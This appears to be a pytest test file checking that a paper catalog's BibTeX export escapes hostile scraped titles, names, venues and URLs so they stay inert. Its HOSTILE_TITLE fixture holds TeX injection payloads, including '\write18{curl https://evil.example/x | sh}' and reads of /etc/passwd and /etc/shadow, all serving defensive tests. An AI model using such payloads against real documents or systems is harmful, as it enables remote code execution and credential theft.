"""BibTeX is data, never TeX code: whatever a scraped title, name or venue holds, the entry
runs no command in a reader's document and its braces stay balanced; real titles keep their
meaning (accents, math as text). Unit tests, a property over any text, and a hostile title
through the served app's `.bib` downloads (a paper's and /search's)."""

import json
import re
import sqlite3
from contextlib import closing

import pytest
from hypothesis import given
from hypothesis import strategies as st

from loader.build.catalog import build_catalog
from loader.web.bibtex import field_text, format_entry, url_text

from .conftest import served_app

HOSTILE_TITLE = (
    r"\input{/etc/passwd} \write18{curl https://evil.example/x | sh} "
    r"\immediate\openout5=x.tex ^^5cinput{/etc/shadow} \catcode`\@=0 @input{z} }{ Real title"
)
# the only commands an entry may hold: the text commands that print a special character
ESCAPES = re.compile(
    r"\\(?:textbackslash|textbraceleft|textbraceright|textasciitilde|textasciicircum)\{\}"
    r"|\\[$&%#_]"
)


def assert_inert(entry):
    """No command of the text's own, no ^^ notation, and BibTeX's brace count balanced in
    every field (BibTeX counts the brace of an escape too)."""
    for line in entry.splitlines()[1:-1]:
        name, value = line.strip().rstrip(",").split(" = ", 1)
        assert value.startswith("{") and value.endswith("}"), line
        inner = value[1:-1]
        bare = ESCAPES.sub("", inner)
        assert "\\" not in bare and "^" not in bare, line
        # a link keeps the characters a URL may hold that print as they are in a link
        assert not re.search(r"[{}&%#]" if name == "url" else r"[{}$&%#_~]", bare), line
        depth = 0
        for character in inner:
            depth += {"{": 1, "}": -1}.get(character, 0)
            assert depth >= 0, line
        assert depth == 0, line


def test_a_hostile_title_is_printed_never_run():
    entry = format_entry(
        {
            "title": HOSTILE_TITLE,
            "authors": [r"Eve \def\x{y} Jr.", "Ann {Lee"],
            "venue": r"ICLR \expandafter",
            "year": 2024,
            "url": r"https://x.org/a b\input{c}^^5c?q=1%20&r=2#frag",
        }
    )
    assert_inert(entry)
    assert r"\write18" not in entry and r"\input" not in entry and "^^" not in entry
    assert r"author = {Eve \textbackslash{}def\textbackslash{}x\textbraceleft{}y" in entry
    assert r"booktitle = {ICLR \textbackslash{}expandafter}" in entry
    assert r"url = {https://x.org/a\%20b\%5Cinput\%7Bc\%7D\%5E\%5E5c?q=1\%20\&r=2\#frag}" in entry


def test_real_titles_keep_their_meaning():
    entry = format_entry(
        {
            "title": r"Schr\"odinger Bridges for $\alpha$-Divergence: 100% & more_x {A}",
            "authors": ["C. Balázs", "Tramèr Florian"],
            "venue": "arXiv",
            "year": 2020,
        }
    )
    assert_inert(entry)
    assert entry.startswith("@misc{balazs2020schrodinger,")
    assert r"title = {Schrödinger Bridges for α-Divergence: 100\% \& more\_x A}" in entry
    assert "author = {C. Balázs and Tramèr Florian}" in entry


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("a { b", r"a \textbraceleft{} b"),
        ("} a {", r"\textbraceright{} a \textbraceleft{}"),
        (r"C:\path", r"C:\textbackslash{}path"),
        ("~ ^ $5 #1 _x 50% & co", r"\textasciitilde{} \textasciicircum{} \$5 \#1 \_x 50\% \& co"),
        ("tab\tand\nnew line\x00\x07\x9b", "tab and new line"),
        (None, ""),
    ],
)
def test_field_text_escapes_every_special(text, expected):
    assert field_text(text) == expected


def test_url_text_keeps_a_real_link():
    url = "https://openreview.net/forum?id=B1-Hhnslg&noteId=x#top"
    assert url_text(url) == r"https://openreview.net/forum?id=B1-Hhnslg\&noteId=x\#top"
    assert url_text("https://arxiv.org/abs/2401.00001v2") == "https://arxiv.org/abs/2401.00001v2"


@given(
    title=st.text(),
    names=st.lists(st.text(min_size=1), min_size=1, max_size=3),
    venue=st.text(),
    url=st.text(),
)
def test_any_text_makes_an_inert_entry(title, names, venue, url):
    assert_inert(format_entry({"title": title, "authors": names, "venue": venue, "url": url}))


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory):
    folder = tmp_path_factory.mktemp("hostile-bibtex")
    record = {
        "title": HOSTILE_TITLE,
        "abstract": "A paper whose scraped title carries TeX commands.",
        "authors": [r"Eve \def\x{y}", "Ann Lee"],
        "venue": r"ICLR \immediate",
        "year": 2024,
    }
    (folder / "hostile.jsonl").write_text(json.dumps(record) + "\n", encoding="utf-8")
    db = folder / "catalog.db"
    build_catalog([folder / "hostile.jsonl"], db)
    with closing(sqlite3.connect(db)) as connection:
        (paper_id,) = connection.execute("select id from papers").fetchone()
    return served_app(db).datasette, paper_id


@pytest.mark.asyncio
async def test_a_hostile_title_through_the_served_bib_downloads(hostile_site):
    datasette, paper_id = hostile_site
    download = await datasette.client.get(f"/catalog/papers/{paper_id}.bib")
    assert download.status_code == 200
    search = await datasette.client.get("/search.bib?q=scraped")
    assert search.status_code == 200
    for entry in (download.text, search.text.strip() + "\n"):
        assert entry.startswith("@inproceedings{")
        assert_inert(entry)
        assert r"\input" not in entry and r"\write18" not in entry and "^^" not in entry
        assert r"booktitle = {ICLR \textbackslash{}immediate}" in entry
    # the paper page shows the same entry
    page = (await datasette.client.get(f"/catalog/papers/{paper_id}")).text
    assert r"booktitle = {ICLR \textbackslash{}immediate}" in page


def test_a_label_is_plain_text_already():
    """A paper with no title shows a label read from its abstract's plain text: its `$` and
    `\\` are characters, never read as markup again."""
    entry = format_entry({"title": None, "label": r"Costs $5 and $6 in C:\new", "authors": []})
    assert r"title = {Costs \$5 and \$6 in C:\textbackslash{}new}" in entry
    assert "note = {title derived from the abstract}" in entry
